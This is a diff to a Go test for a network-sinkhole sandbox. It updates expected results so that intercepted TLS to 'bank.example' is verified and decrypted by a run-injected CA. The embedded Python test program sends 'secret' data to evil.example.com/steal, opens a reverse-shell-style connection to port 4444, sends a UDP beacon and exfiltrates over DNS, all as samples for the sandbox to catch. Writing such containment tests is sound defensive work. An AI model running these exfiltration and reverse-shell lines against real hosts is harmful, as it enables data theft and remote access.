@@ -99,10 +99,10 @@ r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", 
 print("http", r.status, r.read())
 
 raw = socket.create_connection(("198.51.100.1", 443), timeout=10)
-try:
-    ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
-except (ssl.SSLError, OSError) as e:
-    print("tls closed", type(e).__name__)
+# The system store holds the run's CA: the sink's leaf for the SNI verifies.
+t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
+print("tls verified", t.getpeercert()["subject"])
+t.close()
 
 s = socket.create_connection(("203.0.113.9", 4444), timeout=10)
 s.sendall(b"id\n")
@@ -121,7 +121,7 @@ except ConnectionRefusedError:
     print("loopback refused")
 `
 	res := runNet(t, moat.NetworkSinkhole, prog)
-	for _, w := range []string{"http 200 b''", "tls closed", "dns 198.18.", "loopback refused"} {
+	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "loopback refused"} {
 		if !strings.Contains(res.Stdout, w) {
 			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
 		}
@@ -132,7 +132,7 @@ except ConnectionRefusedError:
 	}{
 		{"dns evil.example.com", netEvent(res, "dns", "evil.example.com", "sinkholed A 198.18.")},
 		{"http connect", netEvent(res, "connect", "evil.example.com", "host=evil.example.com", "/steal?x=1", "secret")},
-		{"tls sni", netEvent(res, "connect", "198.51.100.1:443", "sni=bank.example")},
+		{"tls sni", netEvent(res, "connect", "198.51.100.1:443", "sni=bank.example decrypted")},
 		{"reverse shell", netEvent(res, "connect", "203.0.113.9:4444", "sinkholed tcp", `id\n`)},
 		{"udp", netEvent(res, "connect", "198.51.100.7:9999", "sinkholed udp", "beacon")},
 		{"dns exfil label", netEvent(res, "dns", exfilLabel+".exfil.example")},
